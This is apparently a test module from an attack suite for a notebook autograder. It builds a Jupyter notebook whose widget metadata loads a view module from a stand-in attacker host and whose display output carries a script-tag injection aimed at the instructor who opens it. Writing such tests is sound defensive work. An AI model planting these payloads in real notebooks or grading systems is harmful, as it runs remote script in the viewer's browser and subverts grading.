"""Saves a widget whose view is code of the student's own, fetched when it is opened."""

import nbformat

from tests.attacks.suite import Attack

MODULE = {"_model_module": "attacker", "_view_module": "https://attacker.example/x"}
STATE = {"m": {"model_name": "Model", "model_module": "attacker", "state": MODULE}}
VIEW = "application/vnd.jupyter.widget-view+json"


def change(notebook, target):
    state = {"version_major": 2, "version_minor": 0, "state": STATE}
    widgets = {"application/vnd.jupyter.widget-state+json": state}
    notebook.metadata["widgets"] = nbformat.from_dict(widgets)
    data = {VIEW: {"model_id": "m", "x": "</script><script>attack_script()</script>"}}
    show = f"from IPython.display import display\ndisplay({data!r}, raw=True)"
    cell = nbformat.v4.new_code_cell(show)
    cell.outputs.append(nbformat.v4.new_output("display_data", data))
    notebook.cells.append(cell)


ATTACK = Attack(
    harm="a script in what the instructor opens",
    answer="exec(RIGHT)",
    change=change,
    points=8.0,
)
